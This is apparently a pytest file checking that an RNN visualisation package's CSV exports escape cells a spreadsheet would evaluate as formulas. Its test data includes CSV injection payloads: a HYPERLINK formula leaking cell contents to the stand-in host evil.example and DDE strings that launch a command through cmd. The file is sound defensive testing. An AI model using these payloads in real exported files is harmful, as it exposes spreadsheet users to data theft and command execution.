"""A table that is exported holds texts and numbers, and nothing that a spreadsheet would compute."""

from __future__ import annotations

import csv
import io

import numpy as np
import pytest

from rnn_explorer.figures.base import Figure
from rnn_explorer.figures.svg_panel import SvgPanel
from rnn_explorer.figures.table import as_text, csv_text
from rnn_explorer.figures.text_panel import TextPanel

LINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
FORMULAS = [LINK, "@SUM(A1)", "+A1", "-B2+cmd|' /C calc'!A0", "\t=1", "\r=1", "=", "-2+3+cmd|'x'!A0", "--", "+"]
TEXTS = ["a", "a=b", "", " b", "-20", "+1.5e3", "-1,234.5", "-12 %", "-inf", "É"]
MAKERS = [
    lambda table: Figure("n", "t", "h", [], {}, table=table).to_csv(),
    lambda table: TextPanel("n", "t", "h", table=table).to_csv(),
    lambda table: SvgPanel("n", "t", "h", "<svg/>", table=table).to_csv(),
    csv_text,
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_a_spreadsheet_would_compute_is_marked_as_a_text(text: str) -> None:
    assert as_text(text) == f"'{text}"


@pytest.mark.parametrize("text", TEXTS)
def test_other_texts_and_numbers_stay(text: str) -> None:
    assert as_text(text) == text


@pytest.mark.parametrize("make", MAKERS)
def test_every_export_marks_names_and_cells_and_keeps_numbers(make) -> None:
    table = {LINK: [LINK, "b"], "number": np.array([-1.5, 2.0]), "array": np.array(["-x", "y"]), "mixed": ["=1", None]}
    rows = list(csv.reader(io.StringIO(make(table))))
    assert rows == [[f"'{LINK}", "number", "array", "mixed"], [f"'{LINK}", "-1.5", "'-x", "'=1"], ["b", "2.0", "y", ""]]
